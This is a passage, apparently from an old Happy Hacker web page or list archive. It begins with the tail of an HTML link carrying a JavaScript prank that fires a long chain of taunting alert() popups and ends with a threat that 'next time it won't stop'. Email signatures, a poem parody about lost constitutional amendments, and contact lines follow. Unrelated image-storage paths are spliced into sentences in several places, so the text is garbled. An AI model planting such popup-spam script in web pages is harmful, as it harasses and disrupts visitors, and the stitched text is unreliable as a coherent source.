stupid sucker arent ya!!!'); alert('Clickok?'); alert('Click ok?');
alert('Click ok?'); alert('Click ok?'); alert('Click ok?');
alert('Click ok?'); alert('Click ok?'); alert('Click ok?');
alert('Click ok?'); alert('Click ok?'); alert('Click ok?');
alert('Click ok?'); alert('Click ok?'); alert('Click ok?');
alert('Click ok?'); alert('Click ok?'); alert('Click ok?');
alert('Click ok?'); alert('Click ok?'); alert('Click ok?');
alert('3'); alert('2'); alert('1'); alert('Next time it Wont stop! You
have been warned!!!')">Text</a>

                        #  http://www.northernnet.com/cyoung #
                        #                                    #
                        #   power flows out of the beauty    #
                        #          of the baud               #

Matt Hinze        <matt@cs.utexas.edu>    <- finger for phish tapelist
When they took the fourth amendment, I was quiet because I didn't deal drugs.
When they took the sixth amendment, I was quiet because I was innocent.
When they took the second amendment, I was quiet because I didn't own a gun.
Now they've taken the first amendment, and I can saynothing about it.
Peter Beckman   techmafiabeckman@purplecow.com   http://www.purplecow.com/
Carolyn Meinel
M/B Research -- The Technology Brokers

 © 2013 Happy Hacker All rights reserved.